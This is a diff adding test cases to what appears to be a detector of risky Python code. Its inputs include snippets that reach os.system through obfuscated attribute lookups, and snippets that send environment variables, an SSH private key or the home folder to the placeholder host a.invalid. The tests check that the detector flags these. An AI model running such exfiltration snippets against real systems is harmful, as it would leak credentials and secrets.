@@ -698,3 +698,81 @@ def test_cells_of_a_notebook_with_a_bash_kernel_are_recorded_as_shell_lines(read
 def test_cell_whose_magic_selects_another_language_is_reported_as_unread(read_bytes, magic: str) -> None:
     reading = read_bytes(_build_notebook(f"{magic}\nx"), "a.ipynb")
     assert [reason for _, reason in reading.unread] == [UnreadReason.PROGRAM]
+
+
+@check_each(
+    "source, use, name",
+    [
+        ("def f(c): getattr(globals().get(c.a), c.b)()", "call", PICKED_FUNCTION),
+        ("import inspect, sys\ndef f(c): dict(inspect.getmembers(sys.modules[c.a]))[c.b]()", "call", PICKED_FUNCTION),
+        ("import sys\ndef f(c): (lambda m, n: getattr(m, n)())(sys.modules[c.a], c.b)", "call", PICKED_FUNCTION),
+        ("import torch\ndef f(c): torch.__getattribute__(c.a).__getattribute__(c.b)()", "computed-name", FOUND_OBJECT),
+        ("import torch\ndef f(c): getattr(torch.hub, c.a)()", "computed-name", "torch.hub.*"),
+        (
+            "from torch import nn\ndef f(c): getattr(nn.Module.__init__.__globals__['torch'].os, c.b)()",
+            "computed-name",
+            "os.*",
+        ),
+        ("import os\nos.__class__.__dict__['__dict__'].__get__(os)['system']('x')", "call-at-import", "os.system"),
+    ],
+)
+def test_name_that_is_computed_on_a_further_way_is_found(source: str, use: str, name: str) -> None:
+    assert (use, name) in list_uses(source)
+
+
+@check_each(
+    "source",
+    [
+        "import sys\ndef f(c): return globals().get(c.name)(1)",
+        "import inspect, sys\ndef f(c): return dict(inspect.getmembers(sys.modules[__name__]))[c.name](1)",
+        "from torch import nn\ndef f(c): return getattr(nn, c.name)(1)",
+    ],
+)
+def test_own_class_or_layer_under_a_computed_name_is_not_picked(source: str) -> None:
+    assert not {(use, name) for use, name in list_uses(source) if name == PICKED_FUNCTION or use == "hidden"}
+
+
+@check_each(
+    "source",
+    [
+        "import logging, logging.handlers, os\nl = logging.getLogger()\n"
+        "l.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\nl.error(str(dict(os.environ)))",
+        "import asyncio, os\nasync def f():\n    r, w = await asyncio.open_connection('a.invalid', 1)\n"
+        "    w.write(str(dict(os.environ)).encode())",
+        "import pathlib, requests\nrequests.post('https://a.invalid', data=(pathlib.Path.home() / '.ssh' / 'id_rsa').read_text())",
+        "import os\nfrom huggingface_hub import upload_folder\nupload_folder(folder_path=os.path.expanduser('~'), repo_id='a/b')",
+        "import fsspec, os\nfsspec.open('https://a.invalid/x', 'w').open().write(str(os.environ))",
+        "import os, requests\ndef send(v): requests.post('https://a.invalid', json=v)\n"
+        "send({k: v for k, v in os.environ.items() if 'KEY' in k})",
+    ],
+)
+def test_secret_that_leaves_by_a_connection_logger_or_folder_is_sent(source: str) -> None:
+    assert "sends-secret" in {use for use, _ in list_uses(source)}
+
+
+@check_each(
+    "source",
+    [
+        "import logging, os\nlogging.getLogger().error(str(dict(os.environ)))",
+        "from huggingface_hub import upload_folder\nupload_folder(folder_path='./model', repo_id='a/b')",
+        "import fsspec, os\nfsspec.open('out.txt', 'w').open().write(str(os.environ))",
+    ],
+)
+def test_value_that_stays_on_the_machine_is_not_sent(source: str) -> None:
+    assert "sends-secret" not in {use for use, _ in list_uses(source)}
+
+
+@check_each(
+    "source, is_other",
+    [
+        (
+            "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c', endpoint='https://a.invalid')",
+            True,
+        ),
+        ("from huggingface_hub import HfApi\nHfApi('https://a.invalid')", True),
+        ("from huggingface_hub import HfApi\nHfApi(endpoint='https://huggingface.co')", False),
+        ("import boto3\nboto3.client('s3', endpoint='https://a.invalid')", False),
+    ],
+)
+def test_client_of_the_hub_at_another_address_takes_a_guard_away(source: str, is_other: bool) -> None:
+    assert (("call-at-import", "(client of the Hub at another address)") in list_uses(source)) is is_other
